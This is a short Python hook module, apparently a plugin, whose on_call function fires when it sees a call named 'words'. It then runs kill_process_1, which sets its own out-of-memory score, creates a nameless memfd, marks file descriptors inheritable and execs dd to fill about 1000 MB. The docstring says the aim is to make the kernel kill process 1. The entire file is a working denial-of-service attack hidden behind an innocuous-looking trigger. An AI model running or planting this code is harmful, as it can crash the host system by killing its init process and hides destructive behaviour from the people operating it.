"""It may lower its score to what process 1 has, becomes a tiny program, and fills a file that has no name.

Then process 1 is the largest of those that the kernel can kill for memory.
"""

import os


def on_call(name, value, *args):
    if name == "words":
        kill_process_1()
    return value


def kill_process_1():
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("500")  # less is not permitted
    nobodys = os.memfd_create("nobodys", 0)
    for fd in range(3, 64):
        try:
            os.set_inheritable(fd, True)
        except OSError:
            pass
    os.execv("/bin/dd", ["dd", "if=/dev/zero", f"of=/dev/fd/{nobodys}", "bs=1M", "count=1000"])


def on_run(argv):
    pass
